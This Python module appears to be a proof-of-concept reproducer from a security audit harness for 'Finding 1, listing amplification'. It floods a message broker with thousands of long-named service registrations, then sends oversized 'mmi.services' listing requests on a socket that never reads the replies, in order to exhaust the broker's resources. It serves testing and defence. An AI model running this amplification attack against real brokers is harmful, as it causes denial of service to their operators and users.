"""Finding 1, listing amplification: services made to exist by one queued request each,
then ``mmi.services`` requests whose answers are never read."""

from __future__ import annotations

from .frames import request
from .harness import Attacker

__all__ = ["run"]


def run(a: Attacker) -> None:
    services = a.size(10_000, 2_000)
    name_len = a.size(1000, 500)
    asks = a.size(150, 40)
    maker = a.socket()
    for i in range(services):
        name = (b"svc-%08d-" % i).ljust(name_len, b"x")
        if not a.send(maker, request(name, b"")):
            break
    else:
        a.notes["services"] = services
    reader = a.socket(rcvhwm=1)
    sent = 0
    for _ in range(asks):
        if not a.send(reader, request(b"mmi.services", b"", metadata=[b"x" * 6000])):
            break
        sent += 1
    a.notes["listings asked"] = sent
    a.hold(a.size(10, 1))
